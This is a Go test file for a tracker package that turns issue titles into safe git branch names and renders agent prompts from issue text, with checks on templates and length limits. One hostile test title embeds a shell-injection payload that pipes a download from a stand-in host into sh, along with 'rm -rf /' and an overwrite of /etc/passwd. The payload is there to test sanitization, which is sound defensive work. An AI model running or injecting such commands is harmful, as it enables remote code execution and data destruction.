package tracker

import (
	"errors"
	"strings"
	"testing"
	"unicode/utf8"

	. "github.com/onsi/gomega"

	"github.com/shepherd-dev/shepherd/internal/gitref"
)

// hostileTitles are titles users and attackers write.
var hostileTitles = []string{
	"Fix `rm -rf /`; $(curl evil.sh | sh) && echo pwned > /etc/passwd",
	"Ünïcödé 日本語のタイトル 🚀 emoji — and RTL \u202e gnirts",
	strings.Repeat("very long title ", 19) + "end", // 300 characters
	"../../.git/HEAD.lock",
	"-leading dash ~ ^ : ? * [ \\ @{ ..",
	"   ",
	"\x00\x01\x1b[31mred\x7f",
	"feature/.hidden.lock/",
}

func TestBranchNameIsValidForHostileTitles(t *testing.T) {
	for _, key := range []string{"42", "eng-123"} {
		for _, title := range hostileTitles {
			t.Run(key+"/"+title[:min(len(title), 20)], func(t *testing.T) {
				g := NewWithT(t)
				name, err := BranchName("shepherd/", &Issue{ID: key, Key: key, Title: title})
				g.Expect(err).NotTo(HaveOccurred())
				g.Expect(gitref.ValidateBranch(name)).To(Succeed())
				g.Expect(name).To(HavePrefix("shepherd/" + key))
				g.Expect(len(name)).To(BeNumerically("<=", len("shepherd/")+len(key)+1+maxSlug))
				g.Expect(name).To(MatchRegexp(`^shepherd/[a-z0-9-]+$`))
			})
		}
	}
}

func TestBranchNameIsStableAndCollisionSafe(t *testing.T) {
	g := NewWithT(t)
	a1, err := BranchName("team/agents/", &Issue{ID: "7", Key: "7", Title: "Fix the login form"})
	g.Expect(err).NotTo(HaveOccurred())
	a2, _ := BranchName("team/agents/", &Issue{ID: "7", Key: "7", Title: "Fix the login form"})
	b, _ := BranchName("team/agents/", &Issue{ID: "8", Key: "8", Title: "Fix the login form"})
	g.Expect(a1).To(Equal("team/agents/7-fix-the-login-form"))
	g.Expect(a2).To(Equal(a1))
	g.Expect(b).NotTo(Equal(a1))
	empty, err := BranchName("", &Issue{ID: "ENG-9", Key: "eng-9", Title: "!!!"})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(empty).To(Equal("shepherd/eng-9"))
	_, err = BranchName("x/", &Issue{ID: "…", Key: "…"})
	g.Expect(errors.Is(err, ErrInvalidID)).To(BeTrue())
}

func TestRenderPromptKeepsHostileTextVerbatim(t *testing.T) {
	g := NewWithT(t)
	title := hostileTitles[0]
	issue := &Issue{ID: "42", Title: title, Body: "Body with {{.Secret}} and $HOME", URL: "https://example.com/i/42",
		Labels: []string{"bug", "agent:backlog"}, Comments: []Comment{{Author: "alice", Body: "please hurry"}}}
	out, err := RenderPrompt("", NewPromptData(issue, PromptProject{Name: "widgets", Repository: "acme/widgets"}, "shepherd/42-fix"))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(out).To(ContainSubstring("Work on 42: " + title))
	g.Expect(out).To(ContainSubstring("Body with {{.Secret}} and $HOME"))
	g.Expect(out).To(ContainSubstring("Labels: bug, agent:backlog"))
	g.Expect(out).To(ContainSubstring("- alice: please hurry"))
	g.Expect(out).To(ContainSubstring("shepherd/42-fix of acme/widgets"))
	g.Expect(out).NotTo(ContainSubstring("were left out"))

	issue.OmittedComments = 3
	out, err = RenderPrompt("", NewPromptData(issue, PromptProject{Name: "widgets", Repository: "acme/widgets"}, "shepherd/42-fix"))
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(out).To(ContainSubstring("(3 comment(s) by authors this project does not trust were left out.)"))
}

func TestRenderPromptCustomTemplate(t *testing.T) {
	g := NewWithT(t)
	data := NewPromptData(&Issue{ID: "ENG-1", Title: "T", Labels: []string{"a"}}, PromptProject{Name: "p"}, "b")
	out, err := RenderPrompt("{{.Project}} {{.Issue.ID}} {{upper .Issue.Title}} {{join .Issue.Labels \"+\"}} {{.Branch}}", data)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(out).To(Equal("p ENG-1 T a b\n"))

	_, err = RenderPrompt("{{.Nope}", data)
	g.Expect(errors.Is(err, ErrTemplate)).To(BeTrue())
	_, err = RenderPrompt("{{.Issue.Missing}}", data)
	g.Expect(errors.Is(err, ErrTemplate)).To(BeTrue())
	_, err = RenderPrompt(`{{range $i := .Issue.Labels}}{{printf "%40000s" "x"}}{{end}}`, data)
	g.Expect(errors.Is(err, ErrTemplate)).To(BeTrue())
}

func TestCheckPrompt(t *testing.T) {
	for _, tc := range []struct {
		name, tmpl string
		ok         bool
	}{
		{"empty: the built-in template", "", true},
		{"the built-in template", DefaultPromptTemplate, true},
		{"every field", "{{.Issue.ID}} {{.Issue.Title}} {{.Issue.Body}} {{.Issue.URL}} {{join .Issue.Labels \",\"}} " +
			"{{range .Issue.Comments}}{{.Author}}: {{.Body}}{{end}} {{.Project}} {{.Project.Namespace}} {{.Project.Repository}} {{.Project.DefaultBranch}} {{.Branch}}", true},
		{"does not parse", "{{if}}", false},
		{"a field that does not exist", "Fix {{.Issue.Nope}}", false},
		{"a function called wrongly", "{{join .Issue.Title}}", false},
		{"renders past the prompt's bound", `{{range $i := .Issue.Labels}}{{printf "%40000s" "x"}}{{end}}`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			err := CheckPrompt(tc.tmpl)
			if tc.ok {
				g.Expect(err).NotTo(HaveOccurred())
			} else {
				g.Expect(errors.Is(err, ErrTemplate)).To(BeTrue(), "%v", err)
			}
		})
	}
}

func TestPromptDataClipsLongText(t *testing.T) {
	g := NewWithT(t)
	long := strings.Repeat("é", 20000)
	d := NewPromptData(&Issue{ID: "1", Title: long, Body: long}, PromptProject{}, "b")
	g.Expect(len(d.Issue.Body)).To(BeNumerically("<=", maxPromptBody+10))
	g.Expect(utf8.ValidString(d.Issue.Body)).To(BeTrue())
	g.Expect(utf8.ValidString(d.Issue.Title)).To(BeTrue())
	out, err := RenderPrompt("", d)
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(len(out)).To(BeNumerically("<=", maxPrompt))
}
